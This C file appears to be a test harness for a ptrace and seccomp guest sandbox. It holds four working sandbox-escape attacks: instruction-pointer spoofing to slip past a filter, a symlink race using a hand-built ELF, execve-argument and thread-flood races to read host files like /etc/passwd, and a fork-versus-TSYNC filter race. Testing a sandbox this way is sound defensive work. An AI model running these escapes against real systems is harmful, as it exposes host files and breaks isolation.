// SPDX-License-Identifier: Apache-2.0
/* Attacks on what the tracer does in a guest's name.
 *
 *   later counter MODE        two processes below one filter; the one that traces gives the other's call the program
 *                             counter that lets our own calls pass: "poke", "set", "fails", "regset"
 *   later fill FILE HOST TARGET
 *                             executes FILE, which asks for its own bytes as the loader does, when the name HOST
 *                             already leads to TARGET; prints them
 *   later crowd TARGET SECONDS
 *                             a thread of a thousand opens a file while another one executes with arguments that
 *                             spell TARGET; prints what the first one reads
 *   later forked TARGET SECONDS
 *                             a process that is forked while its parent is given a filter opens TARGET, of the host;
 *                             prints what it reads
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PASSING 0xffffa3f000000000UL /* as in ptrace_backend/guest_filter.c */

static void set_counter(const char *mode, pid_t pid, unsigned long value)
{
	struct user_regs_struct regs;
	struct iovec vector = { &regs, sizeof(regs) };

	if (!strcmp(mode, "poke")) {
		ptrace(PTRACE_POKEUSER, pid, offsetof(struct user_regs_struct, rip), value);
		return;
	}
	ptrace(PTRACE_GETREGS, pid, NULL, &regs);
	regs.rip = value;
	if (!strcmp(mode, "fails")) /* behind the counter */
		regs.cs = 8;
	if (strcmp(mode, "regset") != 0)
		ptrace(PTRACE_SETREGS, pid, NULL, &regs);
	else
		ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &vector);
}

static int counter(const char *mode)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getpgid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };
	struct user_regs_struct regs;
	bool entry = false;
	int status;
	pid_t pid;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return 1;
	pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		syscall(SYS_getpgid, 0);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_SETOPTIONS, pid, NULL, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL);
	while (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) == 0 && waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
		unsigned long from;

		if (WSTOPSIG(status) != (SIGTRAP | 0x80))
			continue;
		entry = !entry;
		ptrace(PTRACE_GETREGS, pid, NULL, &regs);
		if (!entry || regs.orig_rax != SYS_getpgid)
			continue;
		from = regs.rip;
		set_counter(mode, pid, PASSING);
		if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) < 0 || waitpid(pid, &status, 0) != pid)
			break;
		ptrace(PTRACE_GETREGS, pid, NULL, &regs);
		puts((long)regs.rax == -EPERM ? "refused" : "passed");
		set_counter(mode, pid, from);
		entry = false;
	}
	return 0;
}

#define FILE_SIZE 4096
#define BASE	  0x400000

/* What is executed: waits for fd 3, asks for the bytes two pages on, and writes them. */
__asm__(".pushsection .rodata\n"
	"blob: xor %eax, %eax\n"
	"	mov $3, %edi\n"
	"	lea -64(%rsp), %rsi\n"
	"	mov $1, %edx\n"
	"	syscall\n"
	"	mov $257, %eax\n" /* openat */
	"	mov $-101, %rdi\n"
	"	lea blob_end(%rip), %rsi\n"
	"	mov $02000000, %edx\n" /* O_CLOEXEC */
	"	mov $8192, %r10d\n"
	"	xor %r8d, %r8d\n"
	"	movabs $0x616d70686f7261, %r9\n"
	"	syscall\n"
	"	mov $1, %eax\n"
	"	mov $1, %edi\n"
	"	mov $0x402000, %esi\n"
	"	mov $4096, %edx\n"
	"	syscall\n"
	"	mov $231, %eax\n"
	"	xor %edi, %edi\n"
	"	syscall\n"
	"blob_end:\n"
	".popsection");
extern const char blob[], blob_end[];

static int write_program(const char *file, const char *host)
{
	static union {
		struct {
			Elf64_Ehdr header;
			Elf64_Phdr segment;
			char code[];
		};
		char bytes[FILE_SIZE];
	} image;
	size_t size = (size_t)(blob_end - blob);
	int fd;

	memcpy(image.header.e_ident, ELFMAG, SELFMAG);
	image.header.e_ident[EI_CLASS] = ELFCLASS64;
	image.header.e_ident[EI_DATA] = ELFDATA2LSB;
	image.header.e_ident[EI_VERSION] = EV_CURRENT;
	image.header.e_type = ET_EXEC;
	image.header.e_machine = EM_X86_64;
	image.header.e_version = EV_CURRENT;
	image.header.e_entry = BASE + (uintptr_t)(image.code - image.bytes);
	image.header.e_phoff = sizeof(image.header);
	image.header.e_ehsize = sizeof(image.header);
	image.header.e_phentsize = sizeof(image.segment);
	image.header.e_phnum = 1;
	image.segment = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_W | PF_X, .p_vaddr = BASE,
				      .p_filesz = FILE_SIZE, .p_memsz = 4 * FILE_SIZE, .p_align = 4096 };
	memcpy(image.code, blob, size);
	strcpy(image.code + size, host);
	fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, image.bytes, FILE_SIZE) != FILE_SIZE)
		return 1;
	return close(fd);
}

static int fill(const char *file, const char *host, const char *target)
{
	char moved[256];
	int go[2], status;
	pid_t pid;

	unlink(file);
	if (write_program(file, host) != 0 || pipe(go) < 0)
		return 1;
	snprintf(moved, sizeof(moved), "%s.moved", file);
	pid = fork();
	if (pid == 0) {
		dup2(go[0], 3);
		execl(file, file, NULL);
		_exit(1);
	}
	usleep(300000); /* it is in its read() */
	if (rename(file, moved) < 0 || symlink(target, file) < 0)
		return 1;
	dup2(go[1], 9);
	if (write(9, "g", 1) != 1)
		return 1;
	waitpid(pid, &status, 0);
	return !WIFEXITED(status) || WEXITSTATUS(status);
}

#define WAITING	   1024 /* threads, and a slot of 16 KiB each */
#define OPENING	   256
#define WORDS	   (8 * 2048UL - 1) /* a program gets one more than its script: pieces of 128 KiB */
#define PATH_WORDS 16
static volatile int done;

static void show(int fd)
{
	char text[256];
	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof(text));

	if (n > 0 && write(1, text, (size_t)n) != n)
		_exit(1);
	close(fd);
}

static void *open_always(void *unused)
{
	const struct sched_param none = { 0 };
	struct stat before, after;
	int fd;

	stat("/etc/passwd", &before);
	sched_setscheduler(0, SCHED_IDLE, &none); /* it comes late to the call that it was let into */
	while (!done) {
		fd = open("/etc/passwd", O_RDONLY);
		if (fd >= 0 && fstat(fd, &after) == 0 && after.st_ino != before.st_ino) {
			done = 1;
			show(fd);
		}
		close(fd);
		usleep(1000);
	}
	return unused;
}

static void *wait_always(void *unused)
{
	open("/", O_PATH); /* it gets a slot */
	while (!done)
		usleep(100000);
	return unused;
}

static void *turn_always(void *unused)
{
	while (!done)
		;
	return unused;
}

static int crowd(const char *target, int seconds)
{
	static char *words[WORDS];
	union {
		char text[PATH_WORDS * sizeof(char *)];
		char *words[PATH_WORDS];
	} path = { "" };
	size_t length = strlen(target), slashes = 0, count;
	pthread_attr_t small;
	pthread_t thread;
	time_t end = time(NULL) + seconds;
	int fd;

	while ((length + slashes + 1) % sizeof(char *) != 4) /* no word of it is 0 */
		slashes++;
	memset(path.text, '/', slashes);
	strcpy(path.text + slashes, target);
	count = (slashes + length) / sizeof(char *) + 1;
	for (size_t i = 0; i + 1 < WORDS; i++)
		words[i] = (char *)1;
	/* Interpreter and script take the place of argv[0]. */
	for (size_t i = 2047; i + PATH_WORDS < WORDS; i += 2048)
		memcpy(&words[i], path.words, count * sizeof(char *));
	fd = open("/tmp/script", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (write(fd, "#!/bin/sh\n", 10) != 10)
		return 1;
	close(fd);
	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 65536);
	for (int i = 0; i < WAITING + OPENING; i++)
		if (pthread_create(&thread, &small, i < WAITING ? wait_always : open_always, NULL) != 0)
			return 1;
	for (int i = 0; i < 4; i++)
		pthread_create(&thread, &small, turn_always, NULL);
	while (time(NULL) < end && !done)
		syscall(SYS_execve, "/tmp/script", words, NULL);
	done = 1;
	return 0;
}

static void *give_filters(void *unused)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };

	usleep((unsigned)rand() % 5000);
	syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
	return unused;
}

/* Reading as many arguments takes the tracer a while, in which other stops pile up. It is told of the
 * newest thread's first. */
static pid_t keep_busy(void)
{
	static char *words[5000];
	pid_t pid;

	for (size_t i = 0; i + 1 < sizeof(words) / sizeof(words[0]); i++)
		words[i] = (char *)1;
	pid = fork();
	if (pid != 0)
		return pid;
	while (getppid() != 1)
		syscall(SYS_execve, "/tmp/script", words, NULL);
	_exit(0);
}

static void fork_once(const char *target, unsigned seed)
{
	pid_t busy[2], pid;
	pthread_t thread;
	int fd;

	srand(seed);
	busy[0] = keep_busy();
	busy[1] = keep_busy();
	pthread_create(&thread, NULL, give_filters, NULL);
	for (volatile int i = rand() % 10000000; i > 0; i--)
		;
	pid = (pid_t)syscall(SYS_fork);
	if (pid == 0) {
		fd = (int)syscall(SYS_openat, AT_FDCWD, target, O_RDONLY);
		show(fd);
		_exit(0);
	}
	pthread_join(thread, NULL);
	waitpid(pid, NULL, 0);
	kill(busy[0], SIGKILL);
	kill(busy[1], SIGKILL);
}

static int write_script(void)
{
	int fd = open("/tmp/script", O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (fd < 0 || write(fd, "#!/bin/sh\n", 10) != 10)
		return 1;
	return close(fd);
}

static int forked(const char *target, int seconds)
{
	time_t end = time(NULL) + seconds;

	if (write_script() != 0)
		return 1;
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	for (unsigned seed = 1; time(NULL) < end; seed++) {
		if (fork() == 0) {
			fork_once(target, seed);
			_exit(0);
		}
		wait(NULL);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "counter"))
		return counter(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "fill"))
		return fill(argv[2], argv[3], argv[4]);
	if (argc == 4 && !strcmp(argv[1], "crowd"))
		return crowd(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "forked"))
		return forked(argv[2], atoi(argv[3]));
	return 2;
}
